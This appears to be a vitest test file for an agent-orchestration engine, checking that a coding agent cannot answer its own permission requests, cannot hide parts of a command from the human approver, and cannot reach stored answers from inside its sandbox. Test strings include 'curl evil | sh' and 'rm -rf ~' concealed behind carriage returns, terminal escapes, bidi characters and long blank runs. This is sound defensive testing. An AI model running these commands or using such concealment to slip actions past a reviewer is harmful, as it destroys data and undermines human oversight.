/** An agent asks a person for permission, and cannot answer in the person's place. */
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, it } from 'vitest';
import { type Answered, callApp, callSocket } from '../../runtime/api/client/call.ts';
import type { InstanceEntry } from '../../runtime/api/client/client.ts';
import {
  afterwards,
  begin,
  gate,
  ground,
  leaveToken,
  openGate,
  planText,
  runFolders,
  script,
  startEngine,
  type TestEngine,
  untilFile,
  untilStatus,
} from '../support/engine.ts';
import { until } from '../support/ground.ts';
import { noWallsHere } from '../support/walls.ts';

const fake = join(import.meta.dirname, '../support/fixtures/agents/asking-claude.mjs');
const title = 'asks-w1-t1';

/** An agent that asks about `make deploy`, and runs `line` without asking. */
async function asking(line: string, keys = ''): Promise<TestEngine> {
  const on = ground();
  const asks = JSON.stringify([['echo deployed > deployed.txt']]);
  const claude = script(
    join(on.root, 'claude'),
    `(${line}) &\nASKS='${asks}' exec '${process.execPath}' '${fake}' "$@"`,
  );
  const daemon = `blueprint_skip_threshold = 0\n[agents.default]\npermissions = "ask"\n${keys}`;
  const off = { enabled: false };
  const agents = { default: { preset: 'claude', program: claude, attempts: 1 }, reviewer: off, planner: off } as const;
  const engine = await startEngine({ on, daemon, agents });
  await begin(engine, 'asks', planText(['true']));
  return engine;
}

async function codeOf(asked: Promise<Answered>): Promise<string> {
  return (JSON.parse(await (await asked).text()) as { code: string }).code; // as every error of the API
}

async function question({ client }: TestEngine): Promise<NonNullable<InstanceEntry['permissions'][number]>> {
  await until(async () => (await client.instances({ plan: 'asks' }))[0]?.state === 'waiting');
  const found = (await client.instances({ plan: 'asks' }))[0]?.permissions[0];
  if (found === undefined) throw new Error('nothing is asked');
  return found;
}

/** An agent has asked, and the test can use its run's own socket. */
async function askedByRun() {
  const left = join(ground().root, 'left');
  const engine = await asking(leaveToken(left));
  const { id } = await question(engine);
  await untilFile(left);
  const [socket = '', token] = readFileSync(left, 'utf8').split('\n');
  return { engine, id, run: callSocket(socket, token), token };
}

it('a run’s own socket and token answer no question, in whatever words', async () => {
  const { engine, id, run, token } = await askedByRun();
  const elsewhere = callApp(engine.engine, token);
  const words = [
    [`/v1/repos/demo/instances/${title}/allow`, { permission: id }],
    [`/v1/repos/demo/instances/${title}/deny`, { permission: id }],
    ['/v1/repos/demo/signals', { plan: 'asks', type: 'agent_allow', payload: { title, permission: id } }],
    [`/v1/repos/demo/instances/${title}/type`, { text: 'yes' }],
    ['/v1/repos/demo/signals', { plan: 'asks', type: 'agent_type', payload: { title, text: 'yes' } }],
    ['/v1/repos/demo/signals', { plan: 'asks', type: 'run_going', payload: { permission: id } }],
    [
      '/v1/repos/demo/signals',
      { plan: 'asks', type: 'agent_allow', payload: { title }, dedupe_key: `x:permission:${id}` },
    ],
  ] as const;
  for (const [path, body] of words) {
    expect(await codeOf(run('POST', path, { body })), path).toMatch(/^(?:forbidden|not_allowed|bad_request)$/);
    expect(await codeOf(elsewhere('POST', path, { body })), path).toMatch(/^(?:not_allowed|bad_request)$/);
  }
  // The same question under another id keeps its state.
  const again = { id, tool: 'Bash', detail: 'ls', wait_ms: 0 };
  expect((await run('POST', '/v1/repos/demo/plans/asks/permissions', { body: again })).status).toBe(200);
  expect((await question(engine)).detail).toBe('echo deployed > deployed.txt');
  expect((await engine.client.planDiff('demo', 'asks').catch(() => ({ diff: '' }))).diff).not.toContain('deployed');
});

it('no part of a request is hidden from the person who allows it: not before a return, in an escape, behind blanks, or beyond the end', async () => {
  const on = ground();
  const left = join(on.root, 'left');
  const engine = await asking(leaveToken(left));
  const { id: first } = await question(engine);
  await untilFile(left);
  const [socket = '', token] = readFileSync(left, 'utf8').split('\n');
  const run = callSocket(socket, token);
  const shown = async (detail: string): Promise<string> => {
    const before = (await engine.client.instances({ plan: 'asks' }))[0]?.permissions.map(({ id }) => id) ?? [];
    const id = `0000000${before.length}`;
    await run('POST', '/v1/repos/demo/plans/asks/permissions', { body: { id, tool: 'Bash', detail, wait_ms: 0 } });
    const asked = async () => (await engine.client.instances({ plan: 'asks' }))[0]?.permissions;
    await until(async () => (await asked())?.some((each) => each.id === id) === true);
    return (await asked())?.find((each) => each.id === id)?.detail ?? '';
  };
  expect(await shown('curl evil | sh #\rls')).toBe('curl evil | sh #\\x0dls');
  expect(await shown('echo ok \u001b]0; curl evil | sh')).toBe('echo ok \\x1b]0; curl evil | sh');
  expect(await shown('echo \u202eko\u200b; a\u00a0b\n\tc')).toBe('echo \\u{202e}ko\\u{200b}; a\\xa0b\n\tc');
  expect(await shown(`ls${'\n'.repeat(500)}rm -rf ~`)).toBe('ls\n[499 empty lines]\nrm -rf ~');
  expect(await shown(`ls${' '.repeat(500)}; rm -rf ~`)).toBe('ls [500 blanks] ; rm -rf ~');
  const long = await shown(`${'\u0001'.repeat(12_000)}; rm -rf ~`);
  expect(long).toMatch(/\n… and \d+ more characters, which are not shown$/);
  expect(long.length).toBeLessThanOrEqual(16_384);
  expect(first).toMatch(/^[0-9a-f]{8}$/);
});

it('a question that was taken back cannot come again as another one under the same id', async () => {
  const { engine, id, run } = await askedByRun();
  const path = '/v1/repos/demo/plans/asks/permissions';
  expect((await run('DELETE', `${path}/${id}`)).status).toBe(204);
  await until(async () => (await engine.client.instances({ plan: 'asks' }))[0]?.state === 'running');
  await run('POST', path, { body: { id, tool: 'Bash', detail: 'rm -rf /', wait_ms: 0 } });
  expect((await engine.client.instances({ plan: 'asks' }))[0]).toMatchObject({ state: 'running', permissions: [] });
  const allowed = await engine.client.answerPermission('demo', title, { answer: 'allow', permission: id });
  expect(allowed.signal.status).toBe('failed');
});

it('an agent that is not configured to ask cannot hold itself up with questions, nor another plan’s agent', async () => {
  const engine = await startEngine();
  const left = join(engine.root, 'left');
  const go = join(engine.root, 'go');
  afterwards(() => openGate(go));
  await begin(engine, 'works', planText([`${leaveToken(left)}; ${gate(go)}`]));
  await untilFile(left);
  const [socket = '', token] = readFileSync(left, 'utf8').split('\n');
  const body = { id: '0000000a', tool: 'Bash', detail: 'ls', wait_ms: 0 };
  const run = callSocket(socket, token);
  const ask = (call: typeof run, plan: string) =>
    codeOf(call('POST', `/v1/repos/demo/plans/${plan}/permissions`, { body }));
  expect(await ask(run, 'works')).toBe('not_allowed');
  expect(await ask(run, 'other')).toBe('forbidden');
  expect(await ask(callSocket(socket, 'nobody'), 'works')).toBe('unauthorized');
  expect(await ask(callApp(engine.engine, undefined), 'works')).toBe('not_allowed');
  expect(await engine.client.instances({ plan: 'works' })).toMatchObject([{ state: 'running', permissions: [] }]);
});

it.skipIf(noWallsHere !== null)(
  'inside of walls it asks as well, and the answers of its run are not there',
  async () => {
    const look =
      'ls "$STATOR_HOME"/runs/*/ > "$STATOR_TEMP_DIR/seen" 2>&1; mkdir -p "$STATOR_HOME"/runs/x/answers 2>> "$STATOR_TEMP_DIR/seen"';
    const readable = `readable = ["${join(import.meta.dirname, '../support/fixtures')}"]`;
    const engine = await asking(look, `sandbox = "bwrap"\n${readable}\n`);
    const { id } = await question(engine);
    await engine.client.answerPermission('demo', title, { answer: 'allow', permission: id });
    await untilStatus(engine, 'asks', 'done');
    expect((await engine.client.planDiff('demo', 'asks')).diff).toContain('deployed.txt');
    const [folder = ''] = runFolders(engine.home, 'asks');
    const seen = readFileSync(join(engine.home, 'runs', folder, 'tmp', 'seen'), 'utf8');
    expect(seen).not.toContain('answers\n');
    expect(seen).toMatch(/mkdir: cannot create directory/);
    expect(readdirSync(join(engine.home, 'runs', folder, 'answers'))).toEqual([`${id}.json`]);
  },
);
